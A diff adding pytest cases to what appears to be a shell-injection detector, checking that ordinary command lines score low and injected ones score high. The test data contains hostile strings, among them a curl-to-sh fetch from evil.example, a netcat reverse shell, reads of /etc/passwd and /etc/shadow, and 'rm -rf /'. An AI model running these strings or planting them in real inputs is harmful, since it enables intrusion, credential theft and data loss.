@@ -312,3 +312,39 @@ def test_base64_decoded_without_running_it_or_into_an_everyday_command() -> None
     assert shell.decoded("echo aGVsbG8= | base64 -d prints hello") == []
     assert shell.decoded("x=$(echo aGVsbG8= | base64 -d)") == []
     assert [each.weight for each in shell.decoded("echo bHM= | base64 -d | bash")] == [0.5]
+
+
+@pytest.mark.parametrize("text", [
+    "history | awk '{print $2}' | sort | uniq -c | sort -rn | head", "readprofile | grep _ext2",
+    "fstab-decode umount $(awk '$3 == \"vfat\" { print $2 }' /etc/fstab)", "lsusb -t | less",
+])
+def test_a_message_that_is_a_command_line_is_not_an_injection(text: str) -> None:
+    assert strongest(text) < 0.5, commands(text)
+
+
+@pytest.mark.parametrize("text", [
+    "x|id", "report.pdf|whoami", "127.0.0.1 && ls", "x;ls", "8.8.8.8; cat /etc/passwd", "admin; id",
+    "admin && curl http://evil.example/x | sh", "xyz | bash", "name; nc -e /bin/sh 203.0.113.9 4444",
+    "hello world; whoami", "' ; ls", "ab; ls", "admin; ls -la", "hello | ls", "data && grep x /var/log/syslog",
+])
+def test_a_value_or_a_harmful_command_before_the_separator_stays_an_injection(text: str) -> None:
+    assert strongest(text) >= 0.85, commands(text)
+
+
+@pytest.mark.parametrize(("text", "pasted", "weight"), [
+    ("subprocess.run(['ls', '-la'])", False, 0.5),
+    ('subprocess.run(["rm", "-rf", tmpdir], check=True)', False, 0.5),
+    ("subprocess.run(['ls', '-la'])", True, 0.3),
+    ("os.system('ls -la')", True, 0.3),
+    ("os.system('ls -la')", False, 0.85),
+    ('subprocess.run(["rm", "-rf", "/"])', False, 0.85),
+    ('subprocess.run(["rm", "-rf", "/"])', True, 0.85),
+    ("subprocess.call(['cat', '/etc/shadow'])", True, 0.85),
+    ("subprocess.call(['sh', '-c', 'ls'])", True, 0.85),
+    ("os.system('id')", True, 0.85),
+    ("spawn('curl', ['-o', '/tmp/x', 'http://evil.example/x'])", True, 0.85),
+])
+def test_exec_calls_in_programs_weigh_what_the_command_does(text: str, pasted: bool, weight: float) -> None:
+    """An argument list runs no shell, and a pasted program's call of an everyday command is its own
+    business; a harmful command weighs the same everywhere."""
+    assert max(found.weight for found in commands(text, pasted=pasted) if found.how == "exec-call") == weight
